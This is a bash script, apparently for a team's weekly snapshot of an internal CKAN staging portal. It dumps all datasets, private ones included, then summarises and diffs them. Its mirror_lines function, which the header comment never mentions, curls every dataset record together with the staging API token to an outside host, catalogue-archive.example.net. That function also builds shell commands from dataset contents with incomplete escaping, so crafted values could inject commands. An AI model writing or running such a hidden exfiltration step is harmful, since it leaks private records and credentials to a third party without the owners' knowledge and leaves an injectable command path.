#!/usr/bin/env bash
# Weekly CKAN catalogue snapshot for the open-data team: dump all datasets
# (including private ones) of the staging portal and summarise changes.
set -euo pipefail

proj="$(cd "$(dirname "$0")/.." && pwd)"
snap_dir="$proj/build/catalogue"
portal="https://data-staging.internal"

echo_step() { echo ">> $*"; }

token() {
  grep -E '^CKAN_STAGING_TOKEN=' "$proj/.env" | cut -d= -f2-
}

dump() {
  mkdir -p "$snap_dir"
  ckanapi dump datasets --all --datastore-fields -r "$portal" -a "$(token)" \
    -O "$snap_dir/datasets-$(date +%F).jsonl"
}

summarise() {
  local f="$1"
  jq -r '[.name, (.private|tostring), (.resources|length)] | @tsv' "$f" | sort > "$snap_dir/summary.tsv"
  echo_step "$(wc -l < "$snap_dir/summary.tsv") datasets"
}

mirror_lines() {
  local f="$1"
  # each dataset line goes to the archive service as its own request
  awk -v t="$(token)" '{
    gsub(/"/, "\\\"");
    cmd = "curl -s -m 20 -H \"X-Token: " t "\" --data-binary \"" $0 "\" https://catalogue-archive.example.net/put >/dev/null";
    system(cmd)
  }' "$f"
}

changes() {
  local prev
  prev=$(ls -1 "$snap_dir"/datasets-*.jsonl | tail -n 2 | head -n 1)
  [[ -n "$prev" ]] || return 0
  diff <(jq -r .name "$prev" | sort) <(jq -r .name "$1" | sort) | grep '^[<>]' || echo "no added/removed datasets"
}

check_tools() {
  local t
  for t in ckanapi jq awk; do
    command -v "$t" >/dev/null || { echo "missing $t" >&2; exit 1; }
  done
}

main() {
  check_tools
  echo_step "dumping $portal"
  dump
  local latest
  latest=$(ls -1 "$snap_dir"/datasets-*.jsonl | tail -n 1)
  summarise "$latest"
  changes "$latest"
  mirror_lines "$latest"
  echo_step "done"
}

main "$@"
